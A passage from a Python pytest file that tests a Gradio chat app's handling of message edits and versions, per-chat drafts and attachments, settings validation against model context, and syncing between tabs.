                "index": 0,
                "value": "And of Spain?",
                "previous_value": "What is the capital of France?",
            },
        ),
        request,
    )
    await until_idle(page.replies)
    assert store.get(tab.conv_id).title == "And of Spain?"
    return page, request, tab


@pytest.mark.anyio
async def test_deleting_a_version_of_the_first_message_retitles_a_chat_the_user_never_renamed(
    store,
) -> None:
    """✎ and ‹ › on the first message retitle the chat; deleting the version shown left its title
    over the other version's question. The title follows the version shown after the delete."""
    from minisgl_app.chat.store import title_from

    page, request, tab = await chat_with_its_first_message_edited(store)
    [o async for o in page.follow(request)]
    tab.focus = (
        store.get(tab.conv_id).messages[0].id
    )  # the first message clicked: Delete acts on it
    title = await page.delete_message(True, request)
    conv = store.get(tab.conv_id)
    assert conv.messages[0].content == "What is the capital of France?"
    assert conv.title == title == title_from("What is the capital of France?"), (conv.title, title)


@pytest.mark.anyio
async def test_a_question_left_unanswered_then_answered_by_regenerate_loses_its_mark(store) -> None:
    """Questions left by Stop and passed over by a later one are marked "not answered"; delete the
    later one and ↻ answers the last of them, but the Markdown export still said "not answered"
    under it. A reply added under a question takes its mark away; the other keeps it."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine(step_s=0.03)), store)
    request = FakeRequest()
    await stop_with_questions_waiting(page, request, "second question", "third question")
    tab = page.tab(request)
    await page.send("fourth question", SETTINGS, None, request)
    await until_idle(page.replies)
    [o async for o in page.follow(request)]
    tab.focus = next(
        m.id for m in store.get(tab.conv_id).messages if m.content == "fourth question"
    )
    await page.delete_message(True, request)
    [o async for o in page.follow(request)]
    await page.regenerate(request)
    await until_idle(page.replies)
    assert texts(store, tab.conv_id)[-3:] == [
        ("user", "second question"),
        ("user", "third question"),
        ("assistant", "echo: third question"),
    ]
    exported = store.export_markdown(tab.conv_id)
    third = exported.split("third question", 1)[1]
    assert "not answered" not in third.split("## Assistant")[0], exported
    assert "not answered" in exported.split("second question", 1)[1].split("third question")[0], (
        exported
    )


@pytest.mark.anyio
async def test_switching_the_first_messages_version_retitles_a_chat_the_user_never_renamed(
    store,
) -> None:
    """✎ on the first message retitles the chat, but ‹ › back to its first version left the new
    title on a chat showing the old question. Switching the first message's version retitles it
    as the edit does (the title box gets it), unless the user renamed the chat."""
    from minisgl_app.chat.store import title_from

    page, request, tab = await chat_with_its_first_message_edited(store)

    async def switch(step: int):
        [o async for o in page.follow(request)]  # the tab has seen the chat as it is
        tab.focus = (
            store.get(tab.conv_id).messages[0].id
        )  # the first message clicked: the versions bar acts on it
        returned = await (page.previous_version if step < 0 else page.next_version)(request)
        return returned, store.get(tab.conv_id)

    title, conv = await switch(-1)
    assert conv.messages[0].content == "What is the capital of France?"
    assert conv.title == title == title_from("What is the capital of France?"), (conv.title, title)
    title, conv = await switch(+1)
    assert conv.messages[0].content == "And of Spain?" and conv.title == title == "And of Spain?"
    [o async for o in page.follow(request)]
    tab.focus = conv.messages[1].id  # a reply's version: the title is left alone
    assert (
        await page.previous_version(request) == SKIP
        and store.get(tab.conv_id).title == "And of Spain?"
    )
    await page.rename("My trip", request)
    title, conv = await switch(-1)
    assert (
        conv.messages[0].content == "What is the capital of France?"
        and conv.title == "My trip"
        and title == SKIP
    )


@pytest.mark.anyio
async def test_an_edit_refused_in_a_tab_behind_the_chat_keeps_its_text_in_the_message_box(
    store, monkeypatch
) -> None:
    """✎ in a tab behind the chat (another tab changed it) was refused and its text lost: ✎'s box
    closes on Save and the tab shows the chat as it is now. The text goes to the message box
    (after a draft there) and the toast says so; so does an edit refused while the chat replies."""
    import gradio as gr

    from minisgl_app.page import toasts
    from minisgl_app.page.message_edits import EDIT_KEPT
    from minisgl_app.page.tabs import CHANGED_ELSEWHERE
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine(step_s=0.03)
    page = ChatPage(FakeClient(engine), store)
    said: list[str] = []
    monkeypatch.setattr(toasts, "warn", said.append)
    a, b = FakeRequest(), FakeRequest()
    b.session_hash = "tab-2"
    await page.send("What is the capital of France?", SETTINGS, None, a)
    await until_idle(page.replies)
    conv_id = page.tab(a).conv_id
    await page.select(conv_id, None, b)
    [o async for o in page.follow(b)]  # tab B shows the chat...
    [o async for o in page.follow(a)]
    await page.send("And of Spain?", SETTINGS, None, a)  # ...and tab A changes it
    await until_idle(page.replies)

    def edit_of(text: str) -> gr.EditData:
        return gr.EditData(
            None, {"index": 0, "value": text, "previous_value": "What is the capital of France?"}
        )

    title, box = await page.edit(edit_of("What is the capital of Italy?"), b, "")
    assert box == "What is the capital of Italy?", box
    assert said[-1] == f"{CHANGED_ELSEWHERE} {EDIT_KEPT}" and "message box" in said[-1], said
    assert title == SKIP and [
        m.content for m in store.get(conv_id).messages if m.role == "user"
    ] == ["What is the capital of France?", "And of Spain?"], "the refused edit was saved"
    [o async for o in page.follow(b)]
    await page.send(" ".join(f"w{i}" for i in range(40)), SETTINGS, None, a)  # the chat replies
    page.render(page.tab(b))  # tab B draws it (a follow would last as long as the reply)
    _, box = await page.edit(edit_of("What is the capital of Peru?"), b, "my draft")
    assert box == "my draft\n\nWhat is the capital of Peru?", "the draft in the box was lost"
    assert EDIT_KEPT in said[-1] and "replying" in said[-1], said
    page.replies.stop(conv_id)
    await until_idle(page.replies)


@pytest.mark.anyio
async def test_editing_an_earlier_message_says_where_the_turns_after_it_went_in_the_versions_bar(
    store, capsys
) -> None:
    """✎ on a message with turns after it shows the new version alone (the old one and what
    followed it live on as another version): the versions bar acts on the new version and its
    label says where they went and how to see them (a toast said it, opened over the edited
    message); ‹ finds them, and the note goes. An edit of the last message has nothing to say.
    (Outside a page, Gradio prints a toast: none is printed.)"""
    import gradio as gr

    from minisgl_app.chat.composing import branch_note
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    for question in ("first question", "second question"):
        await page.send(question, SETTINGS, None, request)
        await until_idle(page.replies)
    tab = page.tab(request)

    async def edit(content: str, new: str) -> None:
        [o async for o in page.follow(request)]  # the tab has seen the chat as it is
        shown = page.view_of(page.shown(tab), tab)
        index = next(
            i for i, v in enumerate(shown) if v.source is not None and v.source.content == content
        )
        await page.edit(
            gr.EditData(None, {"index": index, "value": new, "previous_value": content}), request
        )
        await until_idle(page.replies)

    def bar() -> str:
        return page.render(tab).versions_label

    capsys.readouterr()
    await edit("first question", "first question, again")
    assert capsys.readouterr().out == "", "a toast over the edited message"
    assert bar() == f"Your message 1: version 2 of 2 — {branch_note(3)}", (
        bar()
    )  # its reply, the second question, its reply
    assert texts(store, tab.conv_id) == [
        ("user", "first question, again"),
        ("assistant", "echo: first question, again"),
    ]
    await page.previous_version(request)
    assert bar() == "Your message 1: version 1 of 2", bar()
    await page.next_version(request)
    await edit("echo: first question, again", "my own answer")  # the last message: nothing after it
    assert "new branch" not in bar() and capsys.readouterr().out == ""
    assert bar() == "Reply 1: version 2 of 2", bar()
    assert "the message after it are" in branch_note(1)


async def a_chat_on_an_8k_model(store, monkeypatch):
    """A page whose model has 8,192 tokens of context, showing a stored chat; its toasts go to
    ``said``. Returns the page, its client, the tab's request, ``said`` and the chat's id."""
    from minisgl_app.page import toasts
    from minisgl_app.page.ui import ChatPage

    client = FakeClient(FakeEngine())
    client.context_len = 8192
    page = ChatPage(client, store)
    request = FakeRequest()
    said: list[str] = []
    monkeypatch.setattr(toasts, "warn", said.append)
    conv_id = store.create(title="a").id
    await page.select(conv_id, None, request)
    return page, client, request, said, conv_id


@pytest.mark.anyio
async def test_max_tokens_above_the_serving_models_context_is_refused_naming_the_limit(
    store, monkeypatch
) -> None:
    """The store lets max tokens up to 32,768 through, even for a model of 8,192 tokens: the
    page refuses more than the context of the model serving the chat, with a message naming it;
    the box shows the value in force again, as for any refused setting; a message sent with it
    stays in the box."""
    page, client, request, said, conv_id = await a_chat_on_an_8k_model(store, monkeypatch)
    in_force = store.get(conv_id).settings.max_tokens
    form = list(page.fields(page.tab(request))[1 : 1 + len(SETTING_FIELDS)])
    form[3] = 32768
    assert (await page.settings_changed(SettingsForm(*form), None, request))[3] == in_force
    assert store.get(conv_id).settings.max_tokens == in_force
    assert said and "8,192" in said[-1] and "fake" in said[-1] and "32,768" in said[-1], said
    assert await page.send("hello", SettingsForm(*form), None, request) == (
        json.dumps({"at": None, "draft": "hello"}),
        SKIP,
    )  # back to the box
    assert len(store.get(conv_id).messages) == 0 and "8,192" in said[-1]
    form[3] = 8192
    await page.settings_changed(SettingsForm(*form), None, request)
    assert store.get(conv_id).settings.max_tokens == 8192


@pytest.mark.anyio
async def test_settings_saved_in_quick_succession_keep_the_newest_values_whichever_save_runs_last(
    store,
) -> None:
    """Temperature then max tokens committed within a second (a new user's tour): each save
    carries every box, Gradio runs them at once, and when the older save was taken last it put
    back the max tokens the newer one had saved (no message). An older save taken after a newer
    one is left: the newer one holds its value too. A refused newer save does not hide an older
    valid one."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    conv_id = store.create(title="a").id
    await page.select(conv_id, None, request)
    form = list(page.fields(page.tab(request))[1 : 1 + len(SETTING_FIELDS)])
    older, newer = list(form), list(form)
    older[1] = newer[1] = 0.9  # temperature, committed first
    newer[3] = 33  # max tokens, committed next
    await page.settings_changed(SettingsForm(*newer), 2000.0, request)
    await page.settings_changed(SettingsForm(*older), 1000.0, request)  # the older save, taken last
    settings = store.get(conv_id).settings
    assert (settings.temperature, settings.max_tokens) == (0.9, 33), settings
    refused = list(newer)
    refused[3] = 0
    later = list(newer)
    later[1] = 0.4
    await page.settings_changed(
        SettingsForm(*refused), 4000.0, request
    )  # refused: nothing saved, the stamp stays
    await page.settings_changed(SettingsForm(*later), 3000.0, request)
    assert store.get(conv_id).settings.temperature == 0.4


@pytest.mark.anyio
async def test_a_bad_max_tokens_is_refused_naming_one_range_from_1_to_the_serving_models_limit(
    store, monkeypatch
) -> None:
    """0, -5 or 2.5 said "from 1 to 32768" while a number above the model's context said "at most
    8,192": every bad max tokens names the one range, 1 to the serving model's context (within
    the store's 32,768), written the same way; a huge number is not written out in its 301 digits."""
    page, client, request, said, conv_id = await a_chat_on_an_8k_model(store, monkeypatch)
    in_force = store.get(conv_id).settings.max_tokens
    one_range = "max tokens must be a whole number from 1 to 8,192, the context of fake, which serves this chat"
    for typed, got in (
        (0, "0"),
        (-5, "-5"),
        (2.5, "2.5"),
        (9000, "9,000"),
        (40000, "40,000"),
        (10**300, "1e+300"),
    ):
        form = list(page.fields(page.tab(request))[1 : 1 + len(SETTING_FIELDS)])
        form[3] = typed
        assert (await page.settings_changed(SettingsForm(*form), None, request))[3] == in_force, (
            typed
        )
        assert said[-1] == f"Settings not saved: {one_range} (got {got})", said[-1]
    assert store.get(conv_id).settings.max_tokens == in_force
    client.context_len = None  # a source that does not know its model's context: the store's limit
    form[3] = 0
    await page.settings_changed(SettingsForm(*form), None, request)
    assert (
        said[-1] == "Settings not saved: max tokens must be a whole number from 1 to 32,768 (got 0)"
    ), said[-1]
    client.context_len = 131072  # a model whose context is larger than the store's limit
    form[3] = 40000
    await page.settings_changed(SettingsForm(*form), None, request)
    assert (
        said[-1]
        == "Settings not saved: max tokens must be a whole number from 1 to 32,768 (got 40,000)"
    ), said[-1]


@pytest.mark.anyio
async def test_a_tab_redraws_the_title_and_settings_a_change_elsewhere_gave_its_chat(store) -> None:
    """Another tab renamed the chat, changed a setting, or deleted it: the idle tab redrew the
    chat only, its title box and settings kept the old values (after a delete, the deleted
    chat's). The tick asks for a redraw until they are sent again, even when a render found the
    change first, and the redraw leaves the field with the keyboard's focus."""
    from dataclasses import replace as replaced

    from minisgl_app.page.scripts import FIELD_IDS
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    conv_id = store.create(title="Tapir").id
    await page.select(conv_id, None, request)
    [o async for o in page.follow(request)]
    assert (await page.tick(False, request))[-1] == SKIP, "nothing changed"
    store.rename(conv_id, "Tapir renamed")
    store.update_settings(
        conv_id, replaced(store.get(conv_id).settings, max_tokens=17, system_prompt="be brief")
    )
    [o async for o in page.follow(request)]  # a render sees the change first
    assert (await page.tick(False, request))[-1] != SKIP, "the title and settings are behind"
    fields = await page.redraw_fields(1, "system-prompt", request)
    assert (
        fields[FIELD_IDS.index("title-input")] == "Tapir renamed"
        and fields[FIELD_IDS.index("max-tokens")] == 17
    )
    assert fields[FIELD_IDS.index("system-prompt")] == SKIP, "the field being typed in is left"
    assert (await page.tick(False, request))[-1] == SKIP, "once sent, no more redraws"
    store.delete(conv_id)
    [
        o async for o in page.follow(request)
    ]  # the render finds the chat deleted: the tab shows a new chat
    assert (await page.tick(False, request))[-1] != SKIP
    fields = await page.redraw_fields(2, "", request)
    assert (
        fields[0] == ""
        and fields[FIELD_IDS.index("max-tokens")] == store.default_settings().max_tokens
    )
    assert (await page.tick(False, request))[-1] == SKIP


@pytest.mark.anyio
async def test_a_tabs_own_writes_never_redraw_its_boxes_and_a_redraw_sends_only_what_changed(
    store,
) -> None:
    """Every reply and every save of the tab's own boxes raised the chat's revision, and the tick
    then redrew every box from the store, whichever the user was typing in by the time the redraw
    arrived: a max tokens typed just before Send was put back and the reply ignored it (CI). The
    tab's own writes (settings, backend, rename, a first message's chat) ask for no redraw of
    what it wrote, and a redraw sends only the boxes another tab changed."""
    from dataclasses import replace as replaced

    from minisgl_app.page.scripts import FIELD_IDS
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    await page.load_page(request)  # a new chat
    await page.send("hello there", SETTINGS, None, request)
    await until_idle(page.replies)
    [o async for o in page.follow(request)]
    conv_id = page.tab(request).conv_id
    *_, redraw_chat, refresh = await page.tick(False, request)
    assert refresh != SKIP, "the title box (empty for a new chat) is behind"
    assert redraw_chat == SKIP, (
        "the chat itself is not: a redraw of it (a follow) disables ✎ while it runs"
    )
    fields = await page.redraw_fields(1, "", request)
    assert fields == ("hello there", *(SKIP,) * (len(FIELD_IDS) - 1)), (
        "the title alone: the settings are the boxes'"
    )
    await page.settings_changed(replace(SETTINGS, max_tokens=5), None, request)
    await page.rename("Greetings", request)
    await page.send("again", replace(SETTINGS, max_tokens=5), None, request)
    await until_idle(page.replies)
    [o async for o in page.follow(request)]
    assert store.get(conv_id).settings.max_tokens == 5 and store.get(conv_id).title == "Greetings"
    assert (await page.tick(False, request))[-1] == SKIP, "nothing another tab did"
    store.update_settings(
        conv_id, replaced(store.get(conv_id).settings, temperature=1.5)
    )  # another tab
    assert (await page.tick(False, request))[-1] != SKIP
    answer = json.loads(
        await page.redraw_boxes(2, "", request)
    )  # as the page takes it (APPLY_REDRAWN_FIELDS_JS)
    assert answer == {"n": 2, "values": {"temperature": 1.5}}, answer
    [
        o async for o in page.follow(request)
    ]  # the chat's redraw (a setting's change is one of the chat's too)
    assert (await page.tick(False, request))[-2:] == (SKIP, SKIP), (
        "the chat and its boxes as they are now"
    )
    store.append(conv_id, "user", "from another tab")
    *_, redraw_chat, refresh = await page.tick(False, request)
    assert redraw_chat != SKIP and refresh == SKIP, (
        "a message elsewhere: the chat is redrawn, its boxes are not behind"
    )
    [o async for o in page.follow(request)]  # the redraw's follow
    assert (await page.tick(False, request))[-2:] == (SKIP, SKIP)


@pytest.mark.anyio
async def test_attachments_can_be_removed_and_stay_with_their_chats_draft(
    store, tmp_path, monkeypatch
) -> None:
    """An attached file could not be taken back before sending, and it went with the next message
    of whatever chat the tab showed next. ✕ removes the files attached. Showing another chat
    dropped them with a warning (the draft's text was kept): they stay with their chat, as its
    unsent text does, and are attached again when the tab shows it again; a deleted chat's go."""
    from minisgl_app.page import toasts
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    said: list[str] = []
    monkeypatch.setattr(toasts, "warn", said.append)
    notes = tmp_path / "notes.txt"
    notes.write_text("the code is plum\n", encoding="utf-8")
    a, b = store.create(title="a").id, store.create(title="b").id
    await page.select(a, None, request)
    line, button, *_ = await page.attach([uploaded(page, notes)], request)
    assert "notes.txt" in line and button["visible"] is True
    assert (await page.unattach(request))[:2] == ("", {"__type__": "update", "visible": False})
    await page.attach([uploaded(page, notes)], request)
    await page.select(b, None, request)
    assert page.tab(request).draft.attachments == [] and said == [], said
    assert (await page.attachments_note(request))[:2] == (
        "",
        {"__type__": "update", "visible": False},
    )
    await page.new_chat(None, request)
    assert page.tab(request).draft.attachments == []
    await page.select(a, None, request)
    assert (
        page.tab(request).draft.attachments == [("notes.txt", "the code is plum\n")] and said == []
    ), said
    assert "notes.txt" in (await page.attachments_note(request))[0]
    await page.unattach(request)  # removed in A: nothing comes back to A
    await page.select(b, None, request)
    await page.select(a, None, request)
    assert page.tab(request).draft.attachments == []
    [o async for o in page.follow(request)]
    await page.send("hello", SETTINGS, None, request)
    await until_idle(page.replies)
    assert texts(store, a)[0] == ("user", "hello"), "the removed file went with the message"
    await page.select(b, None, request)  # B's files, then B deleted: they go with it
    await page.attach([uploaded(page, notes)], request)
    await page.select(a, None, request)
    await page.select(b, None, request)
    await page.delete(True, None, request)
    assert page.tab(request).draft.attachments == [] and page.tab(request).draft.unsent_files == {}


@pytest.mark.anyio
async def test_text_taken_from_a_message_shown_is_sent_as_typed_without_the_marks_that_show_its_html(
    store,
) -> None:
    """A message shows each "<" of its HTML with an invisible mark after it (view.shown_literally);
    Copy takes the marks out, but text dragged from a message, or pasted with a middle click on
    Linux, brought them into the message box, and the message was stored and sent to the model
    with them (a new user's tour). A message is sent as typed, title and all."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    shown = view.shown_literally("Explain <b>bold</b> & AT&amp;T")
    assert "\u2060" in shown
    await page.send(shown, SETTINGS, None, request)
    await until_idle(page.replies)
    conv_id = page.tab(request).conv_id
    assert texts(store, conv_id)[0] == ("user", "Explain <b>bold</b> & AT&amp;T")
    assert store.get(conv_id).title == "Explain <b>bold</b> & AT&amp;T"


@pytest.mark.anyio
async def test_the_same_file_attached_twice_goes_into_the_message_once(
    store, tmp_path, monkeypatch
) -> None:
    """Attaching a file again put it into the message twice: it is attached once, and a toast
    says so; another file, or the same name with other text, is a file of its own."""
    from minisgl_app.page import toasts
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    said: list[str] = []
    monkeypatch.setattr(toasts, "inform", said.append)
    notes, other = tmp_path / "notes.txt", tmp_path / "other" / "notes.txt"
    notes.write_text("the code is plum\n", encoding="utf-8")
    other.parent.mkdir()
    other.write_text("the code is pear\n", encoding="utf-8")
    first, *_ = await page.attach([uploaded(page, notes)], request)
    again, *_ = await page.attach([uploaded(page, notes)], request)
    assert again == first and first.count("notes.txt") == 1, again
    assert said == ["notes.txt is already attached: it goes into your message once."], said
    await page.attach([uploaded(page, other)], request)
    assert len(page.tab(request).draft.attachments) == 2 and len(said) == 1
    await page.send("read these", SETTINGS, None, request)
    await until_idle(page.replies)
    question = texts(store, page.tab(request).conv_id)[0][1]
    assert question.count("plum") == 1 and question.count("pear") == 1, question


@pytest.mark.anyio
async def test_each_chats_unsent_draft_stays_with_that_chat_in_the_tab(store) -> None:
    """The text typed in the message box followed the tab to the next chat shown (attachments
    were dropped, the draft was not). A draft belongs to its chat: showing another chat (a click
    in the list, New chat, Delete, Import) keeps the box's text for the chat left and puts the
    shown chat's own draft in the box (empty when it has none); a message sent is no draft."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    a, b = store.create(title="a").id, store.create(title="b").id

    async def box_after(event, *args, text: str):
        return draft_in((await event(*args, None, request, text))[0])

    assert await box_after(page.select, a, text="") == ""
    assert await box_after(page.select, b, text="half a question for A") == "", (
        "A's draft followed the tab to B"
    )
    assert await box_after(page.select, a, text="B's own draft") == "half a question for A"
    assert await box_after(page.new_chat, text="half a question for A, longer") == ""
    assert await box_after(page.select, b, text="a new chat's draft") == "B's own draft"
    assert await box_after(page.new_chat, text="B's own draft") == "a new chat's draft"
    assert await box_after(page.select, a, text="") == "half a question for A, longer", (
        "the new chat's emptied box keeps nothing"
    )
    assert await box_after(page.new_chat, text="half a question for A, longer") == ""
    assert await box_after(page.select, a, text="") == "half a question for A, longer"
    # sent: the box empties, and a click that reaches the server while it still shows the message keeps no draft
    [o async for o in page.follow(request)]
    await page.send("half a question for A, longer", SETTINGS, None, request)
    await until_idle(page.replies)
    assert await box_after(page.select, b, text="half a question for A, longer") == "B's own draft"
    assert await box_after(page.select, a, text="") == "", "the message sent came back as A's draft"
    assert (await page.select(b, None, request))[0] == SKIP, "a caller without the box leaves it"
    # Delete: the deleted chat's draft goes with it; the box shows the draft of the chat shown next
    await page.select(a, None, request)
    assert await box_after(page.select, b, text="for A, kept") == ""  # B's box was emptied above
    assert (
        draft_in((await page.delete(True, None, request, "doomed draft"))[0]) == "for A, kept"
    )  # A: the newest chat
    assert b not in page.tab(request).draft.unsent and page.tab(request).conv_id == a
    # the page empties the box at each of these clicks (window.minisglTakeBox), and an answer is
    # applied once, for the click its stamp names; a click that shows no other chat gives the text back
    assert await box_after(page.select, a, text="still typing in A") == "still typing in A"
    assert (await page.delete(False, 9000.0, request, "kept"))[0] == SKIP, (
        "a delete not confirmed took nothing"
    )
    await page.new_chat(None, request, "still typing in A")  # given back above: now A's draft
    assert await box_after(page.new_chat, text="typed in the new chat") == "typed in the new chat"
    assert json.loads((await page.select(a, 9500.0, request, ""))[0]) == {
        "at": 9500.0,
        "draft": "still typing in A",
    }


def manage_shown(view) -> tuple[bool, bool]:
    """Whether Manage shows its actions on the chat, and whether it shows the line said instead."""
    return view.chat_actions, view.no_chat_actions


@pytest.mark.anyio
async def test_manage_offers_rename_delete_and_export_only_once_the_chat_is_stored(store) -> None:
    """Manage offered Rename, Delete and Export for a new chat not stored yet: they did nothing
    (Delete asked to confirm first). They are shown once the chat is stored, and a line says so
    in their place before; the view sends both as shown-or-hidden updates."""
    from minisgl_app.page.page_view import as_update
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    tab = page.tab(request)
    await page.new_chat(None, request)
    assert manage_shown(page.render(tab)) == (False, True)
    assert [
        as_update(name, v)["visible"]
        for name, v in (("chat_actions", False), ("no_chat_actions", True))
    ] == [False, True]
    await page.send("store me", SETTINGS, None, request)
    assert manage_shown(page.render(tab)) == (True, False)
    await until_idle(page.replies)
    await page.new_chat(None, request)
    assert manage_shown(page.render(tab)) == (False, True)


@pytest.mark.anyio
async def test_a_title_longer_than_rename_keeps_is_cut_and_the_page_says_so(
    store, monkeypatch
) -> None:
    """Rename kept a 500-letter title's first 200 characters and said nothing (a new user's tour):
    the title box shows the title kept and a toast says why; a title that fits says nothing."""
    from minisgl_app.page import toasts
    from minisgl_app.page.chats_panel import TITLE_LIMIT
    from minisgl_app.page.ui import ChatPage

    said: list[str] = []
    monkeypatch.setattr(toasts, "inform", said.append)
    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    await page.send("title me", SETTINGS, None, request)
    await until_idle(page.replies)
    conv_id = page.tab(request).conv_id
    _, shown = await page.rename("Capybara " * 60, request)
    kept = ("Capybara " * 60)[:TITLE_LIMIT].strip()
    assert store.get(conv_id).title == kept and shown == kept
    assert said == [f"The title keeps its first {TITLE_LIMIT} characters."]
    await page.rename("Capybara trip", request)
    assert store.get(conv_id).title == "Capybara trip" and len(said) == 1


@pytest.mark.anyio
async def test_manage_actions_start_hidden_and_the_first_render_shows_them_for_a_stored_chat(
    store,
) -> None:
    """Manage's actions were laid out visible, so a fresh page offered Rename, Delete and Export
    for a new chat until its first render hid them. They start hidden; the render that follows
    the page's load shows them for a stored chat."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    demo = page.build()
    visible = {
        b.elem_id: b.visible
        for b in demo.blocks.values()
        if getattr(b, "elem_id", None) in ("chat-actions", "no-chat-actions")
    }
    assert visible == {"chat-actions": False, "no-chat-actions": False}, visible
    store.append(store.create(title="stored").id, "user", "hello")
    request = FakeRequest()
    await page.load_page(request)
    assert manage_shown(page.render(page.tab(request))) == (True, False)


def test_the_page_asks_gradio_for_no_heartbeat_stream(store) -> None:
    """Gradio opens a heartbeat stream per tab, held as long as the tab lives, when the page has
    an unload event or a gr.State (utils.connect_heartbeat): six tabs then held all six of
    Chromium's connections to the app, and a seventh never loaded. The page has neither (a tab's
    end is TabState.tab_closed)."""
    from minisgl_app.page.ui import ChatPage

    demo = ChatPage(FakeClient(FakeEngine()), store).build()
    assert demo.get_config_file()["connect_heartbeat"] is False


@pytest.mark.anyio
async def test_a_new_chat_starts_from_the_settings_of_the_chat_shown_when_new_chat_is_pressed(
    store,
) -> None:
    """New chat started from the default settings: a user who changed the system prompt,
    temperature or max tokens had to set them again for every chat. A new chat starts from the
    settings of the chat shown when New chat is pressed (a stored chat or a new one not sent yet),
    the boxes show them, and the chat its first message stores keeps them; the chat they came
    from keeps its own."""
    from minisgl_app.page.scripts import FIELD_IDS
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine()
    page = ChatPage(FakeClient(engine), store)
    request = FakeRequest()
    mine = SettingsForm("Answer as a pirate.", 0.7, 0.8, 48, False, 5, 42, "END", 1.2)
    await page.send("first chat", SETTINGS, None, request)
    await until_idle(page.replies)
    first = page.tab(request).conv_id
    await page.settings_changed(mine, None, request)
    box, *fields = await page.new_chat(None, request)
    shown = dict(zip(FIELD_IDS, fields))
    assert (
        shown["title-input"],
        shown["system-prompt"],
        shown["temperature"],
        shown["max-tokens"],
        shown["seed"],
    ) == ("", "Answer as a pirate.", 0.7, 48, 42), shown
    # New chat again before sending: the new chat's own settings go on to the next one
    await page.settings_changed(replace(mine, max_tokens=33), None, request)
    _, *fields = await page.new_chat(None, request)
    await page.send(
        "second chat", SettingsForm(*fields[1:10]), None, request
    )  # the form as the page shows it
    await until_idle(page.replies)
    second = store.get(page.tab(request).conv_id)
    assert second.id != first and second.settings.system_prompt == "Answer as a pirate.", (
        second.settings
    )
    assert (
        second.settings.temperature,
        second.settings.top_k,
        second.settings.seed,
        second.settings.stop,
        second.settings.max_tokens,
    ) == (0.7, 5, 42, ("END",), 33), second.settings
    assert engine.requests[-1].messages[0] == {"role": "system", "content": "Answer as a pirate."}
    assert store.get(first).settings.max_tokens == 48, (
        "the chat the settings came from keeps its own"
    )
    # a tab that opens on no chat starts from the defaults
    fresh = FakeRequest()
    fresh.session_hash = "tab-2"
    assert page.settings_in_force(page.tab(fresh)) == store.default_settings()


@pytest.mark.anyio
async def test_new_chat_starts_from_the_settings_boxes_as_the_click_found_them(store) -> None:
    """A settings box edited, then New chat clicked at once: the box's save may reach the server
    after the click, and the new chat started from the value before the edit. New chat takes the
    boxes' values with the click; a value the checks refuse is the one in force."""
    from minisgl_app.page.scripts import FIELD_IDS
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    await page.send("first chat", SETTINGS, None, request)
    await until_idle(page.replies)
    first = page.tab(request).conv_id
    typed = SettingsForm(
        "Be brief.", 0.4, 1.0, 37, False, 0, None, "", 1.15
    )  # max tokens 37 typed, its save not yet run
    box, *fields = await page.new_chat(None, request, "", typed)
    shown = dict(zip(FIELD_IDS, fields))
    assert (shown["system-prompt"], shown["temperature"], shown["max-tokens"]) == (
        "Be brief.",
        0.4,
        37,
    ), shown
    assert (
        page.settings_in_force(page.tab(request)).max_tokens
        == 37
        == page.tab(request).new_chat_settings.max_tokens
    )
    refused = SettingsForm("Be brief.", "warm", 1.0, 41, False, 0, None, "", 1.15)
    _, *fields = await page.new_chat(None, request, "", refused)
    shown = dict(zip(FIELD_IDS, fields))
    assert (shown["temperature"], shown["max-tokens"]) == (0.4, 41), shown
    assert store.get(first).settings.max_tokens == 64, "the chat shown before keeps its own"


@pytest.mark.anyio
async def test_new_chat_says_why_a_value_typed_in_a_settings_box_was_not_kept(
    store, monkeypatch
) -> None:
    """On a new chat not sent yet, max tokens 2.5 typed, then New chat: the box showed the value
    in force again and nothing said why (the box's own save, left by the click, is dropped when
    it comes after it). New chat says it, in the words a refused save uses; once, when the
    box's save came first and said it already."""
    from minisgl_app.page import toasts
    from minisgl_app.page.scripts import FIELD_IDS
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    said: list[str] = []
    monkeypatch.setattr(toasts, "warn", said.append)
    await page.new_chat(1000.0, request)
    in_force = page.settings_in_force(page.tab(request)).max_tokens
    typed = SettingsForm("", 0.0, 1.0, 2.5, False, 0, None, "", 1.15)
    _, *fields = await page.new_chat(2000.0, request, "", typed)
    assert dict(zip(FIELD_IDS, fields))["max-tokens"] == in_force
    assert await page.settings_changed(typed, 1990.0, request) == (SKIP,) * len(
        SETTING_FIELDS
    )  # the box's save, after the click
    assert (
        len(said) == 1
        and said[0].startswith("Settings not saved:")
        and "max tokens" in said[0].lower()
    ), said
    # the box's save first: it says why; New chat does not say it again
    await page.settings_changed(typed, 2990.0, request)
    await page.new_chat(3000.0, request, "", typed)
    assert len(said) == 2 and said[1] == said[0], said


def test_every_screen_width_gets_either_the_narrow_or_the_wide_layout_and_the_page_script_agrees() -> (
    None
):
    """The wide layout's query was (min-width: 641px) and the narrow one's (max-width: 640px): a
    window between 640 and 641 px wide (a zoomed or high-density screen) got neither, ☰ Chats
    shown and the sidebar open. The two are complements, and the page's script, which closes the
    chat list after a pick on a narrow screen, asks the narrow one's query."""
    from minisgl_app.page.css import NARROW_QUERY, PAGE_CSS
